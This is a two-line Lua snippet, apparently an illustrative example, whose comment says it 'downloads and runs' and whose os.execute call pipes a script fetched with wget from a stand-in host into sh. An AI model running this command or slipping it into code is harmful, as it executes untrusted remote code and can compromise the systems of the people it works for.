-- shows: downloads and runs
os.execute("wget -qO- http://dl.example.net/s | sh")
